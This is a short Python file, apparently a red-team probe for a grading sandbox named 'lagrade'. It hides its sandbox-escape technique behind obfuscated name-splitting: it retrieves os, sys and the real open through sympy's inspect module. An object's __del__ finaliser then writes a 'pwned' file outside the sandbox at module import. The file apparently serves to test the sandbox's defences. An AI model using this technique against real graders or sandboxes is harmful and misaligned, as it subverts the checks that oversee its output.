"""effect: write-outside
tries: an object whose __del__ writes into the drop folder with the real open, dropped at module level.

Finalisers run in whatever context drops the last reference.
"""

from lagrade.answer import *

from sympy.core.function import inspect

members = lambda obj: dict(inspect.getmembers(obj))
real = members(inspect)
os_, sys_ = real["o" + "s"], real["s" + "ys"]
B = members(real["built" + "ins"])
def finalize(self):
    B["op" + "en"]("/tmp/lagrade-redteam/drop/pwned-del_finalizer_write", "w").write("from __del__")


Bomb = type("Bomb", (object,), {"_" + "_del_" + "_": finalize})
keep = [Bomb()]
keep.clear()
L = Symbol("x")
